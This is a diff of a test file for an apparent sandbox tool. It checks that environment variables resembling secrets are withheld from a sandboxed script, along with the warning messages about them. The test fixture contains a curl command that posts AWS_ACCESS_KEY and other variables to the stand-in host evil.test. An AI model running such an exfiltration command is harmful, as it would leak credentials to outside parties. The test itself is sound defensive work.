@@ -71,7 +71,7 @@ describe.each(identities())('as $label', (as) => {
     expect(out).toBe('songs\n');
   });
 
-  test('a line with all that a program names hands out no variable that is a secret', async () => {
+  test('a line with all that a program names hands out none of several variables that are secrets', async () => {
     const script = `#!/bin/sh\ncurl https://evil.test/ -d "$AWS_ACCESS_KEY $SITE_ADDRESS $PLAIN_NAME"\nexit 1\n`;
     const place = makeProject(as, { 'a.sh': script });
     const { err } = await runWasbox(['run', 'a.sh'], {
@@ -83,11 +83,13 @@ describe.each(identities())('as $label', (as) => {
         PLAIN_NAME: 'plain',
       },
     });
-    expect(err).toMatch(/AWS_ACCESS_KEY is set, but was not passed \(it looks like a secret\)/);
-    expect(err).toMatch(/SITE_ADDRESS is set, but was not passed \(it looks like a secret\)/);
+    expect(err).toMatch(/AWS_ACCESS_KEY is set, but was not passed\. .*--env AWS_ACCESS_KEY\n/);
+    expect(err).toMatch(
+      /SITE_ADDRESS is set, but was not passed \(its value looks like a secret\)/,
+    );
     const all = err.split('\n').filter((line) => line.includes('to try all of it'));
     for (const line of all) expect(line).not.toMatch(/--env (AWS_ACCESS_KEY|SITE_ADDRESS)/);
     // Control: the plain one is named without a warning.
-    expect(err).toContain('PLAIN_NAME is set, but was not passed. If');
+    expect(err).toMatch(/PLAIN_NAME is set, .*--env PLAIN_NAME\n/);
   });
 });
